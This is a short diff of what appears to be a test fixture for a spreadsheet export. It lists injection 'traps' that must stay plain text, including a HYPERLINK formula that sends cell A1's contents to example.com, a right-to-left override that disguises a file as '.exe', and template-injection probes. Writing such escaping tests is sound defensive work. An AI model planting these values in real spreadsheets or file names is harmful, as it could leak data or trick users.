@@ -20,7 +20,7 @@ FORMULA = '=HYPERLINK("http://example.com/?"&A1;"ver")'
 RIGHT_TO_LEFT = "Caf\u00e9 \u202etxt.exe\u202c \u05d0\u05d1 \u200f\u200f"
 LONG_REF = "SUC-CENTRO-" + "2026" * 20 + "-000000042"
 TEMPLATE_WORDS = "{{ 7 * 7 }} {% raw %} ${1+1} <!--"
-TRAPS = (SCRIPT, FORMULA, RIGHT_TO_LEFT, TEMPLATE_WORDS, "+503 7000-0000", "@SUM(A1)", "-1+2", "\tTab", "_x0041_", "&amp;")
+TRAPS = (SCRIPT, FORMULA, RIGHT_TO_LEFT, TEMPLATE_WORDS, "+503 7000-0000", "@SUM(A1)", "-1+2", "\tTab", "_x0041_", "&amp;", "<r><t>rich</t></r>")
 """Texts that must stay texts, wherever they are shown."""
 
 SHEET = ("ventas-noviembre.xlsx", "Ventas")
